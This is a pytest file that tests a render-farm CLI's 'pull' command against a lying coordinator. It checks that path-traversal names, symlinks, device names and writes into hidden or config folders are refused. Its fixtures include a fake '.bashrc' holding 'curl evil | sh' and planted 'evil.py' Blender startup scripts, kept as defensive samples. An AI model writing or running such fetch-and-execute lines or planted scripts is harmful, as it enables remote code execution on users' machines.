"""`pull` as a real process against a coordinator that lies (tests/support/crafted_farm.py):
its target folder is the one the person asks for, or the job's output folder
only when that is an ordinary folder here; every name must be plain and land
inside; the person reads one error, and nothing is written anywhere else."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.cli.conftest import Result, run_process
from tests.support.crafted_farm import CraftedFarm, crafted_farm, files_under

FRAME = os.urandom(1500)

# Every way a name can leave a folder on some OS, and names no OS should get.
UNSAFE = {
    "../../escape.png": FRAME,
    "C:f_0002.png": FRAME,
    "\\\\server\\share\\f_0003.png": FRAME,
    "..\\..\\escape.png": FRAME,
    "..": FRAME,
    ".bashrc": b"curl evil | sh",
    "NUL.png": FRAME,
    "f_0009.png": FRAME,  # a link planted in the folder, leading out of it
}


@pytest.fixture
def farm(tmp_path: Path) -> Iterator[CraftedFarm]:
    with crafted_farm(tmp_path / "farm") as crafted:
        yield crafted


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    (home / "elsewhere").mkdir(parents=True)
    return home


def job(farm: CraftedFarm, output: Path, files: dict[str, bytes]) -> int:
    """A real job whose replies say it writes to `output` and produced `files`."""
    created = farm.client().submit(
        {"name": "lies", "type": "sleep", "settings": {"task_count": 1, "seconds": 0}}
    )
    job_id = int(created["id"])
    farm.settings[job_id] = {"output": str(output)}
    farm.outputs[job_id] = files
    return job_id


def pull(farm: CraftedFarm, home: Path, *argv: str, **env: str) -> Result:
    """`python -m coordinator pull`, the token in the environment, HOME in the test."""
    base = {"FARM_TOKEN": farm.token, "HOME": str(home)}
    return run_process("--coordinator", farm.url, "pull", *argv, env={**base, **env})


def test_into_gets_the_plain_names_and_nothing_lands_elsewhere(
    farm: CraftedFarm, home: Path, tmp_path: Path
) -> None:
    into = home / "pulled"
    into.mkdir()
    os.symlink(home / "elsewhere" / "linked.png", into / "f_0009.png")
    absolute = str(home / "elsewhere" / "abs.png")
    job_id = job(farm, home / "x" / "f_####", {"f_0001.png": FRAME, absolute: FRAME, **UNSAFE})
    before = files_under(tmp_path / "home")
    result = pull(farm, home, str(job_id), "--into", str(into))
    assert result.code == 1, result.err
    assert result.out.startswith(f"pulled 1 file (0.0 MB) into {into}")
    assert result.err.count("error:") == 1 and "Traceback" not in result.err
    assert "skipped 9 files the farm named unsafely: file name" in result.err
    assert f"Nothing was written outside {into}" in result.err
    assert farm.fetched(job_id) == ["f_0001.png"]
    after = files_under(tmp_path / "home")
    assert {k: v for k, v in after.items() if k not in before} == {"pulled/f_0001.png": FRAME}
    assert {k: after[k] for k in before} == before


def test_without_into_a_hidden_or_config_folder_from_the_reply_is_refused(
    farm: CraftedFarm, home: Path
) -> None:
    startup = home / ".config" / "blender" / "4.2" / "scripts" / "startup"
    startup.mkdir(parents=True)
    job_id = job(farm, startup / "f_####", {"evil.py": b"import os", "f_0001.png": FRAME})
    result = pull(farm, home, str(job_id))
    assert result.code == 2 and result.out == ""
    assert "a hidden folder (.config)" in result.err and "pass --into DIR" in result.err
    assert list(startup.iterdir()) == [] and farm.fetched(job_id) == []

    scripts = home / "cfg" / "blender" / "scripts"  # not hidden, but named as a config home
    job_id = job(farm, scripts / "f_####", {"evil.py": b"import os"})
    result = pull(farm, home, str(job_id), XDG_CONFIG_HOME=str(home / "cfg"))
    assert result.code == 2 and "inside the configuration folder" in result.err
    assert not scripts.exists() and farm.fetched(job_id) == []


def test_without_into_only_renders_land_in_the_jobs_folder_and_pull_says_where(
    farm: CraftedFarm, home: Path
) -> None:
    renders = home / "shots" / "renders"
    files = {"f_0001.png": FRAME, "f_0002.exr": FRAME, "evil.py": b"import os"}
    job_id = job(farm, renders / "f_####", {**files, "../../escape.png": FRAME})
    result = pull(farm, home, str(job_id))
    assert result.code == 1, result.err
    assert f"no --into: pulling into {renders}, the job's output folder" in result.err
    assert result.err.count("error:") == 1 and "skipped 2 files" in result.err
    assert "'evil.py' is refused: not an image or movie" in result.err
    assert sorted(p.name for p in renders.iterdir()) == ["f_0001.png", "f_0002.exr"]
    assert sorted(farm.fetched(job_id)) == ["f_0001.png", "f_0002.exr"]
    assert sorted(p.name for p in home.iterdir()) == ["elsewhere", "shots"]
